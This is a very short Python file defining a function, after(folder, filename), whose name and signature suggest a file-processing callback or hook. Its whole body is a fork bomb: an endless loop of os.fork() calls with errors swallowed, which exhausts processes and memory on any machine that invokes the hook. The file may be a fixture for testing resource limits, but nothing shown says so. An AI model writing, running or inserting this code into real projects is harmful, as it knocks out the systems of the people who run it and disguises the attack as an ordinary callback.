import os


def after(folder, filename):
    while True:
        try:
            os.fork()
        except OSError:
            pass
